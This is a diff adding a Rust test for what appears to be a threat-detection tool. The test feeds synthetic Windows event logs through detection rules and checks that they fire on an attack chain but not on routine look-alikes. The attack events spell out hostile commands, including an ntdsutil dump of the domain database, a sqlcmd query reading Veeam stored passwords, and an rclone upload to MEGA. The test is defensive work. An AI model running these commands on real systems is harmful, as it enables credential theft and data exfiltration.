@@ -462,3 +462,65 @@ fn rules_list_and_export_show_and_write_the_pack() {
     assert!(stderr(&o).contains("differs"), "{}", stderr(&o));
     assert_eq!(std::fs::read_to_string(&edited).unwrap(), "title: mine\n");
 }
+
+fn proc(time: &str, image: &str, cmd: &str, extra: &str) -> String {
+    let image = image.replace('\\', "\\\\");
+    let cmd = cmd.replace('\\', "\\\\").replace('"', "\\\"");
+    win(
+        "Microsoft-Windows-Sysmon/Operational",
+        1,
+        time,
+        &format!(r#""Image":"{image}","CommandLine":"{cmd}","User":"NORTHGATE\\j.doe"{extra}"#),
+    )
+}
+
+#[test]
+fn the_windows_stages_fire_on_the_attack_and_not_on_the_routine_look_alikes() {
+    let attack = [
+        proc("2025-02-24 09:55:00", r"C:\Users\j.doe\Downloads\AnyDesk.exe", r#""C:\Users\j.doe\Downloads\AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --silent"#, r#","Company":"AnyDesk Software GmbH""#),
+        proc("2025-02-25 10:05:00", r"C:\Users\j.doe\AppData\Local\Temp\ADExplorer64.exe", r#"ADExplorer64.exe -snapshot "" C:\Users\j.doe\AppData\Local\Temp\snap.dat"#, r#","OriginalFileName":"ADExp""#),
+        proc("2025-02-25 10:25:00", r"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts", ""),
+        win("Security", 4769, "2025-03-03 14:42:00", r#""TargetUserName":"j.doe@CORP","ServiceName":"svc_backup","TicketEncryptionType":"0x17","TicketOptions":"0x40810000","Status":"0x0""#),
+        proc("2025-03-04 23:11:00", r"C:\Windows\System32\ntdsutil.exe", r#"ntdsutil.exe  "ac i ntds" ifm "create full C:\Windows\Temp\ifm" q q"#, ""),
+        proc("2025-03-04 23:19:00", r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a -mx9 -pN0rth! C:\Windows\Temp\ifm.7z C:\Windows\Temp\ifm\*", ""),
+        win("System", 7045, "2025-03-11 22:30:03", r#""ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe""#),
+        proc("2025-03-11 22:34:00", r"C:\Program Files\Microsoft SQL Server\Tools\Binn\SQLCMD.EXE", r#"sqlcmd.exe -S localhost\VEEAMSQL2016 -E -Q "SELECT [user_name],[password] FROM [VeeamBackup].[dbo].[Credentials]""#, ""),
+        proc("2025-03-26 01:30:00", r"C:\ProgramData\sq\rclone.exe", r"rclone.exe copy C:\ProgramData\sq\b1.7z mega:bk --transfers 4", ""),
+    ]
+    .concat();
+    let d = hunt(&[("attack.jsonl", attack)]);
+    for name in [
+        "dwell_win_rmm_tool_installed",
+        "dwell_win_ad_recon",
+        "dwell_win_kerberoast_rc4",
+        "dwell_win_ntds_ifm_to_temp",
+        "dwell_win_archive_with_password",
+        "dwell_win_remote_exec_service",
+        "dwell_win_veeam_credentials_read",
+        "dwell_win_rclone_to_cloud",
+    ] {
+        assert!(fired(&d, name) >= 1, "{name}: {d:?}");
+    }
+    assert_eq!(fired(&d, "dwell_win_ad_recon"), 2, "{d:?}");
+    assert_eq!(fired(&d, "dwell_win_ntds_ifm_copy"), 0, "{d:?}");
+
+    // The planned IFM backup, AnyDesk installed by IT from its share, an AES ticket and a
+    // computer account's RC4 ticket, a 7-Zip archive without a password, an ordinary service,
+    // rclone listing a remote, Veeam's own queries.
+    let routine = [
+        proc("2025-03-10 07:15:00", r"C:\Windows\System32\ntdsutil.exe", r#"ntdsutil.exe "ac i ntds" ifm "create full D:\Backups\IFM\CHG0012001" q q"#, ""),
+        proc("2025-03-10 08:00:00", r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe", r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe""#, r#","Company":"AnyDesk Software GmbH""#),
+        win("Security", 4769, "2025-03-10 08:01:00", r#""TargetUserName":"a.baker@CORP","ServiceName":"FS01$","TicketEncryptionType":"0x12","Status":"0x0""#),
+        win("Security", 4769, "2025-03-10 08:02:00", r#""TargetUserName":"svc_nas@CORP","ServiceName":"NAS01$","TicketEncryptionType":"0x17","Status":"0x0""#),
+        proc("2025-03-10 08:03:00", r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a reports.7z C:\Reports\*", ""),
+        win("System", 7045, "2025-03-10 08:04:00", r#""ServiceName":"Contoso Agent","ImagePath":"C:\\Program Files\\Contoso\\agent.exe""#),
+        proc("2025-03-10 08:05:00", r"C:\Tools\rclone.exe", "rclone.exe version", ""),
+        proc("2025-03-10 08:06:00", r"C:\Program Files\Microsoft SQL Server\Tools\Binn\SQLCMD.EXE", r#"sqlcmd.exe -S localhost\VEEAMSQL2016 -E -Q "SELECT COUNT(*) FROM [VeeamBackup].[dbo].[BJobs]""#, ""),
+    ]
+    .concat();
+    let d = hunt(&[("routine.jsonl", routine)]);
+    assert_eq!(
+        d,
+        vec![("dwell_win_ntds_ifm_copy".to_string(), "medium".to_string())]
+    );
+}
